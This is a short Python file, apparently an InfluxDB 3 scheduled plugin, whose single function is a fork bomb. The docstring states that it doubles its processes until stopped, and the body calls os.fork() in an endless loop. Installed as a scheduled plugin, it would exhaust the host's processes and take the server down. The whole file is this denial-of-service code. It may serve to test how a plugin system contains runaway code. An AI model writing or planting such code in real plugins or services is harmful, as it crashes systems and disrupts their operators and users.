"""Doubles the number of its processes until somebody stops it."""

import os


def process_scheduled_call(influxdb3_local, call_time, args=None):
    while True:
        os.fork()
